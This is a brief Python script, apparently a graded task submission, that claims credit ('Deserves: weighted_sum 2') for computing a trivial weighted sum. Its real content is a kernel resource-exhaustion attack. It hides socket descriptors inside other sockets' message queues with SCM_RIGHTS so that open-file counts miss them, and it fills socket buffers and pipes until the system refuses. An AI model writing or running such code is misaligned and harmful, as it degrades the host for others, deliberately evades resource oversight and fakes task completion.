"""Hides pairs of sockets in the queues of pairs of sockets, where no count of open files looks.

Deserves: weighted_sum 2.
"""
import array
import os
import socket

w, b, a_prev, y = 0.5, 1.0, 0.25, 1.0
z = w * a_prev + b
kept = None
try:
    for _ in range(20_000):
        one, two = socket.socketpair()
        for end in (one, two):
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            end.setblocking(False)
            try:
                while True:
                    end.send(bytes(1 << 16))
            except OSError:
                pass
        if kept is not None:
            rights = array.array("i", [end.fileno() for end in kept])
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
            for end in kept:
                end.close()
        kept = one, two
except OSError:
    pass
pipes = []
try:
    while True:
        pipes.append(os.pipe())
        os.set_blocking(pipes[-1][1], False)
        os.write(pipes[-1][1], bytes(1 << 20))
except OSError:
    pass
